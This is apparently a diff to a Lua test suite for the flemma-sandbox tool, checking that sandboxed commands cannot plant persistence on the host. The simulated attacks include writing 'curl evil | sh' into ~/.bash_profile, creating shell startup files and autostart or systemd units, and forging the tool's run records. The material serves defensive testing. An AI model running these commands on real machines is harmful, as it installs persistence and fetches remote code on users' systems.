@@ -143,14 +143,6 @@ describe("escape: changing what runs later on the host", function()
     assert.matches("pre%-commit%.sample", r.stdout)
   end)
 
-  it("a missing .envrc, .nvim.lua or .vscode cannot be created, and leaves no placeholder behind", function()
-    local r = f.attack(w, "echo evil > .envrc; echo evil > .nvim.lua; mkdir -p .vscode/x; ls -a")
-    assert.matches("%.envrc", r.stdout) -- the placeholder exists while the sandbox runs
-    assert.is_nil(h.read(w.proj .. "/.envrc"))
-    assert.is_nil(h.read(w.proj .. "/.nvim.lua"))
-    assert.are.equal("", h.capture("ls -A " .. h.shell_quote(w.proj) .. " | grep -E '^(.envrc|.nvim.lua|.vscode)$'"))
-  end)
-
   describe("with the home folder writable", function()
     before_each(function()
       f.policy({ rw_paths = { "$CWD", "~" }, allow_home_rw = true })
@@ -161,11 +153,23 @@ describe("escape: changing what runs later on the host", function()
       assert.are_not.equal(0, r.code)
     end)
 
-    it("a missing ~/.bash_profile cannot be created and no empty one is left", function()
-      local r = f.attack(w, "echo 'curl evil | sh' > ~/.bash_profile; echo evil > ~/.profile; echo evil > ~/.zshrc")
-      assert.are_not.equal(0, r.code)
+    it("a missing ~/.bash_profile gets no placeholder and what is created goes to the quarantine", function()
+      local r = f.attack(
+        w,
+        "ls -a ~; echo 'curl evil | sh' > ~/.bash_profile; echo evil > ~/.profile; echo evil > ~/.zlogin",
+        { keep_host = true }
+      )
+      assert.is_nil(r.stdout:match("%.bash_profile"))
       assert.is_nil(h.read(w.home .. "/.bash_profile"))
       assert.is_nil(h.read(w.home .. "/.profile"))
+      local moved = table.concat(f.quarantined(w), "\n")
+      assert.truthy(moved:find(w.home .. "/.bash_profile", 1, true))
+      -- control: without the rule it stays
+      assert.truthy(moved:find(w.home .. "/.zlogin", 1, true))
+      f.policy({ rw_paths = { "$CWD", "~" }, allow_home_rw = true, deny_write = { "!~/.zlogin" } })
+      f.attack(w, "echo evil > ~/.zlogin", { keep_host = true })
+      assert.are.equal("evil\n", h.read(w.home .. "/.zlogin"))
+      os.remove(w.home .. "/.zlogin")
     end)
 
     it("~/.local/bin cannot get a new program", function()
@@ -198,8 +202,12 @@ describe("escape: changing what runs later on the host", function()
         "mkdir -p ~/.config/autostart && echo '[Desktop Entry]' > ~/.config/autostart/evil.desktop;"
           .. " mkdir -p ~/.config/systemd/user && echo '[Service]' > ~/.config/systemd/user/evil.service"
       )
-      assert.are_not.equal(0, r.code)
+      assert.are.equal(0, r.code, r.stderr)
       assert.is_nil(h.read(w.home .. "/.config/autostart/evil.desktop"))
+      assert.is_nil(h.read(w.home .. "/.config/systemd/user/evil.service"))
+      local moved = table.concat(f.quarantined(w), "\n")
+      assert.truthy(moved:find(w.home .. "/.config/autostart", 1, true))
+      assert.truthy(moved:find(w.home .. "/.config/systemd", 1, true))
     end)
 
     it("~/.ssh/authorized_keys cannot be written", function()
@@ -208,8 +216,9 @@ describe("escape: changing what runs later on the host", function()
     end)
 
     it("flemma-sandbox's own records cannot be forged (the host helper trusts them)", function()
-      local ledger = w.home .. "/.local/state/flemma-sandbox/placeholders"
-      local r = f.attack(w, "echo " .. h.shell_quote(w.outside) .. " > " .. h.shell_quote(ledger .. "/1:2:3"))
+      local runs = w.home .. "/.local/state/flemma-sandbox/runs"
+      local forged = "printf 'watch\\0" .. w.home .. "/.bashrc\\0' > " .. h.shell_quote(runs .. "/1-1.running")
+      local r = f.attack(w, forged)
       assert.are_not.equal(0, r.code)
       r = f.attack(w, "mv ~/.local/state/flemma-sandbox ~/.local/state/moved")
       assert.are_not.equal(0, r.code)
